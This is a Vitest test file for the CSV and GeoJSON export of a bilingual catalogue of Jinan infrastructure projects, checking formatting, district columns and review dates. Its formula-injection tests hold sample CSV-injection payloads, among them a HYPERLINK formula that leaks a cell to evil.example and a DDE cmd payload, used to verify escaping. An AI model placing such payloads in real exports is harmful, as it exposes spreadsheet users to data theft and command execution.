import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { readInputs } from '../../scripts/vite/catalog.ts';
import { buildCatalog } from '../catalog/build/pipeline.ts';
import { itemPropertiesSchema } from '../catalog/build/schema.ts';
import type { Catalog, FullItem } from '../catalog/types.ts';
import { type Districts, flattenDistricts, type ItemGeometry, toCsv, toGeoJson } from './export.ts';

// The real catalogue comes through the build's own pipeline, in memory: the same data that
// `vite build` writes to src/generated/, without depending on a build having run first.
const root = path.resolve(import.meta.dirname, '../..');
let catalog: Catalog<FullItem>;
let geometry: ItemGeometry;

beforeAll(() => {
  const out = buildCatalog(readInputs(root));
  catalog = out.catalog;
  geometry = out.map as ItemGeometry;
});

const ZHANGQIU = '370114';
const touchesZhangqiu = (i: FullItem) => i.districts?.inside.some((s) => s.key === ZHANGQIU) ?? false;

/** A small RFC 4180 reader, kept apart from the writer so that a test cannot share its mistakes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (quoted) throw new Error('unterminated quoted field');
  // RFC 4180 allows the last record to end without a line break.
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** The CSV as records keyed by the header, BOM stripped. */
function records(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv.slice(1));
  if (!header) throw new Error('no header');
  return rows.map((r) => {
    expect(r).toHaveLength(header.length);
    return Object.fromEntries(header.map((h, i) => [h, r[i] ?? '']));
  });
}

const REVIEWED = '2026-12-06';

const DISTRICTS: Districts = [
  { adcode: '370112', name_zh: '历城区', name_en: 'Licheng District' },
  { adcode: '370114', name_zh: '章丘区', name_en: 'Zhangqiu District' },
];

function fixture(over: Partial<FullItem> = {}): FullItem {
  return {
    id: 'test-item',
    name_zh: '测试项目',
    name_en: 'Test item',
    category: 'transport',
    mode: 'rail',
    zone: '东强',
    zones_also: [],
    status: 'planned',
    status_as_of: '2022-04-09',
    start_year: 2023,
    end_year: 2026,
    length_km: 12.5,
    area_km2: null,
    investment_bn_cny: 17.67,
    capacity_value: 38,
    capacity_unit_zh: '万平方米 建筑面积',
    capacity_unit_en: '10k m² floor area',
    report_section: '创建国际性综合交通枢纽城市',
    report_quote: '测试',
    summary_zh: '中文简介',
    summary_en: 'English summary',
    site_note_zh: null,
    site_note_en: null,
    accuracy_m: 500,
    schematic: true,
    geometry_basis: 'described',
    sources: ['Source A 2022 https://example.org/a', 'Source B'],
    file: 'geo/items/transport.geojson',
    geometry_kind: 'line',
    bounds: [117, 36, 118, 37],
    label: [117.5, 36.5],
    districts: {
      unit: 'km',
      total: 14,
      inside: [
        { key: '370114', amount: 8.5, share: 0.6071 },
        { key: '370112', amount: 4, share: 0.2857 },
      ],
      outside: 1.5,
    },
    zones_geometry: null,
    search: { zh: '', en: '', pinyin: '', initials: '', alt: [] },
    recheck: true,
    ...over,
  };
}

const HEADER_ZH = [
  '编号',
  '中文名称',
  '英文名称',
  '片区',
  '片区代码',
  '亦属片区',
  '亦属片区代码',
  '类别',
  '类别代码',
  '状态',
  '状态代码',
  '交通方式',
  '交通方式代码',
  '状态核实日期',
  '待核实',
  '数据截至',
  '开工年份',
  '完工年份',
  '所在区县',
  '济南市域外',
  '长度（公里）',
  '面积（平方公里）',
  '投资（十亿元）',
  '规模',
  '位置精度（米）',
  '示意',
  '报告章节',
  '简介',
  '来源',
];
const HEADER_EN = [
  'ID',
  'Name (Chinese)',
  'Name (English)',
  'Zone',
  'Zone code',
  'Also in zones',
  'Also in zones (codes)',
  'Category',
  'Category code',
  'Status',
  'Status code',
  'Mode',
  'Mode code',
  'Status as of',
  'To be re-checked',
  'Data as of',
  'Start year',
  'End year',
  'Districts',
  'Outside Jinan',
  'Length (km)',
  'Area (km²)',
  'Investment (bn CNY)',
  'Capacity',
  'Accuracy (m)',
  'Schematic',
  'Report section',
  'Summary',
  'Sources',
];

describe('toCsv: the file format', () => {
  it('starts with a UTF-8 byte-order mark, once, so that Excel reads the Chinese as UTF-8', () => {
    const csv = toCsv([fixture()], DISTRICTS, 'zh', REVIEWED);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).includes('\uFEFF')).toBe(false);
  });

  it('ends every record with CRLF and has no bare LF or CR', () => {
    const csv = toCsv([fixture(), fixture({ id: 'second' })], DISTRICTS, 'en', REVIEWED);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
    expect(csv.split('\r\n')).toHaveLength(4); // header, two items, and the empty tail
  });

  it('writes the header in the chosen language, with the same columns either way', () => {
    expect(parseCsv(toCsv([], DISTRICTS, 'zh', REVIEWED).slice(1))).toEqual([HEADER_ZH]);
    expect(parseCsv(toCsv([], DISTRICTS, 'en', REVIEWED).slice(1))).toEqual([HEADER_EN]);
  });

  it('keeps both names whatever the language, and the summary, capacity and yes/no in the chosen one', () => {
    const [zh] = records(toCsv([fixture()], DISTRICTS, 'zh', REVIEWED));
    const [en] = records(toCsv([fixture()], DISTRICTS, 'en', REVIEWED));
    expect([zh?.中文名称, zh?.英文名称]).toEqual(['测试项目', 'Test item']);
    expect([en?.['Name (Chinese)'], en?.['Name (English)']]).toEqual(['测试项目', 'Test item']);
    expect([zh?.简介, zh?.规模, zh?.示意]).toEqual(['中文简介', '38万平方米 建筑面积', '是']);
    expect([en?.Summary, en?.Capacity, en?.Schematic]).toEqual(['English summary', '38 10k m² floor area', 'yes']);
    expect(en?.Sources).toBe('Source A 2022 https://example.org/a | Source B');
    expect(zh?.['投资（十亿元）']).toBe('17.67');
    expect(en?.['Start year']).toBe('2023');
    expect(en?.['Area (km²)']).toBe('');
  });

  it('names zone, category, status and mode in the chosen language, with the raw codes in columns of their own', () => {
    const item = fixture({ zone: '北起', category: 'transport', status: 'in_operation', mode: 'rail' });
    const [zh] = records(toCsv([item], DISTRICTS, 'zh', REVIEWED));
    const [en] = records(toCsv([item], DISTRICTS, 'en', REVIEWED));
    expect([zh?.片区, zh?.类别, zh?.状态, zh?.交通方式]).toEqual(['北起', '交通枢纽', '运营中', '铁路']);
    expect([en?.Zone, en?.Category, en?.Status, en?.Mode]).toEqual([
      'North rising',
      'Transport hub',
      'In operation',
      'Rail',
    ]);
    const codes = ['北起', 'transport', 'in_operation', 'rail'];
    expect([zh?.片区代码, zh?.类别代码, zh?.状态代码, zh?.交通方式代码]).toEqual(codes);
    expect([en?.['Zone code'], en?.['Category code'], en?.['Status code'], en?.['Mode code']]).toEqual(codes);
    // The other directions an item belongs to, named and as codes; none is an empty cell.
    const airport = fixture({ zone: '北起', zones_also: ['东强', '中优'] });
    const [azh] = records(toCsv([airport], DISTRICTS, 'zh', REVIEWED));
    const [aen] = records(toCsv([airport], DISTRICTS, 'en', REVIEWED));
    expect([azh?.亦属片区, azh?.亦属片区代码]).toEqual(['东强、中优', '东强,中优']);
    expect([aen?.['Also in zones'], aen?.['Also in zones (codes)']]).toEqual([
      'East strong, Centre optimised',
      '东强,中优',
    ]);
    expect([zh?.亦属片区, zh?.亦属片区代码]).toEqual(['', '']);
    // An item that is not about transport has no mode, in either column.
    const [park] = records(toCsv([fixture({ category: 'ecology', mode: null })], DISTRICTS, 'en', REVIEWED));
    expect([park?.Category, park?.['Category code'], park?.Mode, park?.['Mode code']]).toEqual([
      'Ecology & water',
      'ecology',
      '',
      '',
    ]);
  });

  it('writes the review date on every row and marks the items to be re-checked', () => {
    const rows = records(
      toCsv(
        [fixture({ id: 'old', recheck: true }), fixture({ id: 'fresh', recheck: false })],
        DISTRICTS,
        'zh',
        REVIEWED,
      ),
    );
    expect(rows.map((r) => [r.编号, r.待核实, r.数据截至])).toEqual([
      ['old', '是', '2026-12-06'],
      ['fresh', '否', '2026-12-06'],
    ]);
    const [en] = records(toCsv([fixture()], DISTRICTS, 'en', REVIEWED));
    expect([en?.['To be re-checked'], en?.['Data as of'], en?.['Status as of']]).toEqual([
      'yes',
      '2026-12-06',
      '2022-04-09',
    ]);
  });

  it('lists districts with amount and unit for lines and areas, names only for points', () => {
    const [line] = records(toCsv([fixture()], DISTRICTS, 'zh', REVIEWED));
    expect(line?.所在区县).toBe('章丘区 8.5 km; 历城区 4 km');
    expect(line?.济南市域外).toBe('1.5 km');

    const area = fixture({
      districts: { unit: 'km2', total: 157.6, inside: [{ key: '370112', amount: 157.6, share: 1 }], outside: 0 },
    });
    const [a] = records(toCsv([area], DISTRICTS, 'en', REVIEWED));
    expect(a?.Districts).toBe('Licheng District 157.6 km²');
    expect(a?.['Outside Jinan']).toBe('');

    const inside = [
      { key: '370112', amount: 3, share: 0.75 },
      { key: '370114', amount: 1, share: 0.25 },
    ];
    const points = fixture({ districts: { unit: 'points', total: 5, inside, outside: 1 } });
    const [p] = records(toCsv([points], DISTRICTS, 'en', REVIEWED));
    expect(p?.Districts).toBe('Licheng District; Zhangqiu District');
    expect(p?.['Outside Jinan']).toBe('1 point');
  });

  it('leaves districts empty for items without geometry', () => {
    const none = fixture({ districts: null, geometry_kind: null, bounds: null, label: null });
    const [row] = records(toCsv([none], DISTRICTS, 'zh', REVIEWED));
    expect([row?.所在区县, row?.济南市域外]).toEqual(['', '']);
  });

  it('quotes fields with commas, quotes, CR or LF, doubling the quotes, and reads back unchanged', () => {
    const name_en = 'Hub, "North"\r\nline 2\nline 3\rend';
    const csv = toCsv([fixture({ name_en })], DISTRICTS, 'en', REVIEWED);
    expect(csv).toContain('"Hub, ""North""');
    const [row] = records(csv);
    expect(row?.['Name (English)']).toBe(name_en);
    expect(row?.ID).toBe('test-item'); // a plain field stays unquoted
    expect(csv).toContain('\r\ntest-item,');
  });
});

describe('toCsv: formula injection', () => {
  const crafted = fixture({
    name_zh: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    name_en: '@SUM(1+1)*cmd|" /C calc"!A0',
    summary_en: '+1+1',
    summary_zh: '-2+3',
    report_section: '\tTAB',
    report_quote: 'never exported',
    sources: ['\rCR first'],
  });

  it('prefixes a single quote to every text field starting with = + - @ TAB or CR', () => {
    const [zh] = records(toCsv([crafted], DISTRICTS, 'zh', REVIEWED));
    const [en] = records(toCsv([crafted], DISTRICTS, 'en', REVIEWED));
    expect(en?.['Name (Chinese)']).toBe(`'${crafted.name_zh}`);
    expect(en?.['Name (English)']).toBe(`'${crafted.name_en}`);
    expect(en?.Summary).toBe("'+1+1");
    expect(zh?.简介).toBe("'-2+3");
    expect(en?.['Report section']).toBe("'\tTAB");
    expect(en?.Sources).toBe("'\rCR first");
  });

  it('leaves every cell of the real catalogue free of a leading formula character', () => {
    for (const lang of ['zh', 'en'] as const)
      for (const row of records(toCsv(catalog.items, catalog.districts, lang, catalog.reviewed)))
        for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes numeric columns as plain numbers, never prefixed', () => {
    const csv = toCsv([fixture({ length_km: -3, accuracy_m: 50 })], DISTRICTS, 'en', REVIEWED);
    const [row] = records(csv);
    expect(row?.['Length (km)']).toBe('-3');
    expect(row?.['Accuracy (m)']).toBe('50');
  });
});

describe('toCsv: the real catalogue, filtered to 章丘区', () => {
  const rowsFor = (lang: 'zh' | 'en') =>
    records(toCsv(catalog.items.filter(touchesZhangqiu), catalog.districts, lang, catalog.reviewed));

  it('has one row per item touching 章丘区, in order, with 济莱高铁 and 城子崖 and not 济南西站', () => {
    const selected = catalog.items.filter(touchesZhangqiu);
    const rows = rowsFor('zh');
    expect(rows.map((r) => r.编号)).toEqual(selected.map((i) => i.id));
    const ids = rows.map((r) => r.编号);
    expect(ids).toContain('hsr-jinan-laiwu');
    expect(ids).toContain('longshan-culture-chengziya');
    expect(ids).not.toContain('station-jinan-west');
    expect(catalog.items.some((i) => i.id === 'station-jinan-west')).toBe(true);
  });

  it('writes the 济莱高铁 row in full: names, figures and its km in 章丘区', () => {
    const item = catalog.items.find((i) => i.id === 'hsr-jinan-laiwu');
    const share = item?.districts?.inside.find((s) => s.key === ZHANGQIU);
    if (!item || !share) throw new Error('hsr-jinan-laiwu no longer crosses 章丘区');
    const zh = rowsFor('zh').find((r) => r.编号 === item.id);
    expect(zh?.中文名称).toBe('济莱高铁');
    expect([zh?.类别, zh?.类别代码, zh?.交通方式, zh?.交通方式代码]).toEqual(['交通枢纽', 'transport', '铁路', 'rail']);
    expect(zh?.数据截至).toBe(catalog.reviewed);
    expect(zh?.英文名称).toBe(item.name_en);
    expect(zh?.所在区县?.split('; ')).toContain(`章丘区 ${share.amount} km`);
    expect(zh?.['长度（公里）']).toBe(String(item.length_km));
    expect(zh?.来源?.split(' | ')).toEqual(item.sources);
    const en = rowsFor('en').find((r) => r.ID === item.id);
    expect(en?.Districts?.split('; ')).toContain(`Zhangqiu District ${share.amount} km`);
    expect(en?.Summary).toBe(item.summary_en);
  });

  it('names 章丘区 alone for the 城子崖 site, a point', () => {
    const zh = rowsFor('zh').find((r) => r.编号 === 'longshan-culture-chengziya');
    expect(zh?.中文名称).toContain('城子崖');
    expect(zh?.所在区县).toBe('章丘区');
    expect(zh?.济南市域外).toBe('');
  });
});

describe('toGeoJson', () => {
  const sourceGeometry = (id: string) =>
    geometry.features.find((f) => f.properties.id === id && f.properties.label !== true)?.geometry ?? null;

  it('is a FeatureCollection with one feature per item, each with its source geometry or null', () => {
    const items = catalog.items.filter(touchesZhangqiu);
    const parsed = JSON.parse(toGeoJson(items, geometry, catalog.districts, catalog.reviewed));
    expect(parsed.type).toBe('FeatureCollection');
    expect(parsed.features).toHaveLength(items.length);
    items.forEach((item, n) => {
      const f = parsed.features[n];
      expect(f.type).toBe('Feature');
      expect(f.properties.id).toBe(item.id);
      expect(f.geometry).toEqual(sourceGeometry(item.id));
      expect(f.geometry).not.toBeNull();
    });
  });

  it('keeps the whole catalogue, items without geometry included with a null geometry', () => {
    const parsed = JSON.parse(toGeoJson(catalog.items, geometry, catalog.districts, catalog.reviewed));
    expect(parsed.features).toHaveLength(catalog.items.length);
    const withoutGeometry = catalog.items.filter((i) => i.geometry_kind === null);
    expect(withoutGeometry.length).toBeGreaterThan(0);
    for (const [n, item] of catalog.items.entries()) {
      expect(parsed.features[n].geometry).toEqual(sourceGeometry(item.id));
      // A label point is never taken for the item's geometry.
      if (item.geometry_kind === 'area') expect(parsed.features[n].geometry.type).toMatch(/Polygon$/);
      if (item.geometry_kind === null) expect(parsed.features[n].geometry).toBeNull();
    }
  });

  it('carries the schema fields and the districts flattened, and none of the build-derived fields', () => {
    const item = catalog.items.find((i) => i.id === 'hsr-jinan-laiwu');
    if (!item) throw new Error('no hsr-jinan-laiwu');
    const [f] = JSON.parse(toGeoJson([item], geometry, catalog.districts, catalog.reviewed)).features;
    expect(Object.keys(f.properties).sort()).toEqual(
      [...Object.keys(itemPropertiesSchema.shape), 'districts', 'districts_en', 'recheck'].sort(),
    );
    expect(f.properties.districts).toBe(flattenDistricts(item.districts, catalog.districts, 'zh'));
    expect(f.properties.districts).toContain('章丘区');
    expect(f.properties.districts_en).toContain('Zhangqiu District');
    expect(f.properties.sources).toEqual(item.sources);
  });

  it("carries the review date on the collection and each item's re-check mark", () => {
    const parsed = JSON.parse(
      toGeoJson(
        [fixture({ id: 'old', recheck: true }), fixture({ id: 'fresh', recheck: false })],
        { features: [] },
        DISTRICTS,
        REVIEWED,
      ),
    );
    expect(parsed.data_as_of).toBe('2026-12-06');
    expect(parsed.features.map((f: { properties: { recheck: boolean } }) => f.properties.recheck)).toEqual([
      true,
      false,
    ]);
    // The real catalogue: the file says the review date, not the newest date of one item.
    const real = JSON.parse(toGeoJson(catalog.items, geometry, catalog.districts, catalog.reviewed));
    expect(real.data_as_of).toBe(catalog.reviewed);
    const marked = real.features.filter((f: { properties: { recheck: boolean } }) => f.properties.recheck);
    expect(marked.length).toBe(catalog.items.filter((i) => i.recheck).length);
    expect(marked.length).toBeGreaterThan(0);
  });

  it('is pretty-printed with two spaces', () => {
    const text = toGeoJson([fixture()], { features: [] }, DISTRICTS, REVIEWED);
    expect(
      text.startsWith('{\n  "type": "FeatureCollection",\n  "data_as_of": "2026-12-06",\n  "features": [\n    {'),
    ).toBe(true);
  });
});
